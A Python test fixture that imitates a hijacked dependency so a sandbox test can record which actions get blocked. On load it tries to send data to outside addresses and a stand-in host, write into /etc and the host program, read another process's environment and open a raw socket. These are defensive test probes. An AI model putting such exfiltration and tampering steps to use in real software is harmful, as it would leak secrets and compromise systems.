"""A dependency that was taken over: when it is loaded it takes what it can, and tries to send it.

`test_sandbox.py` puts it where Python loads it by itself, in a server, and reads what it could do.
"""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Callable
from functools import partial
from pathlib import Path

OUTSIDE = (("192.0.2.1", 443), ("2001:db8::1", 443))


def tried() -> dict[str, str]:
    """Everything it tried, and how that ended."""
    ended = {
        f"send to {host}": _tried(partial(_send, host, port))
        for host, port in (*OUTSIDE, ("127.0.0.1", int(os.environ["GREEDY_PORT"])))
    }
    ended["ask for a name"] = _tried(lambda: socket.getaddrinfo("collects.example", 443))
    ended["change the program"] = _tried(lambda: _write(Path(os.environ["GREEDY_PROGRAM"])))
    ended["write to the system"] = _tried(lambda: _write(Path("/etc")))
    other = Path("/proc", os.environ["GREEDY_OTHER"], "environ")
    ended["read another program"] = _tried(other.read_bytes)
    ended["listen to the network"] = _tried(_listen)
    return ended


def _tried(act: Callable[[], object]) -> str:
    try:
        act()
    except BaseException as no:
        return type(no).__name__
    return "done"


def _send(host: str, port: int) -> None:
    with socket.create_connection((host, port), timeout=3) as out:
        out.sendall(b"everything")


def _listen() -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close()


def _write(folder: Path) -> None:
    folder.joinpath("greedy-was-here").write_text("")
    folder.joinpath("greedy-was-here").unlink()


if "GREEDY_TOLD" in os.environ:
    Path(os.environ["GREEDY_TOLD"]).write_text(json.dumps(tried()))
